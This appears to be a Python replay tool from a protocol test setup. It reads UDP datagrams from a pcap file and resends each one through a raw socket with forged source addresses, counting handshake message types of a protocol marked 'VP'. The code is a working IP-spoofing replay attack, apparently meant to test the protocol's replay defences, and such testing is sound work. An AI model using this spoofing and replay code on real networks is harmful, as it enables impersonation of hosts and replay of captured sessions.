"""Replays every UDP datagram of a capture, each from its original source address and port
to its original destination, through a raw socket (the attacker spoofs the sources).

    python3 replay.py CAPTURE.pcap
"""
import os
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(__file__))
from pcap import udp_datagrams  # noqa: E402


def packet(src, sport, dst, dport, payload):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    kinds = {}
    n = 0
    for src, sport, dst, dport, payload in udp_datagrams(sys.argv[1]):
        s.sendto(packet(src, sport, dst, dport, payload), (dst, 0))
        kind = payload[3] if len(payload) > 3 and payload[:3] == b"VP\x02" else 0
        kinds[kind] = kinds.get(kind, 0) + 1
        n += 1
    names = {1: "initiation", 2: "response", 3: "cookie", 4: "transport", 5: "nak-cue", 0: "other"}
    print(f"replayed {n} datagrams: " + ", ".join(f"{names.get(k, k)}={v}" for k, v in sorted(kinds.items())))


main()
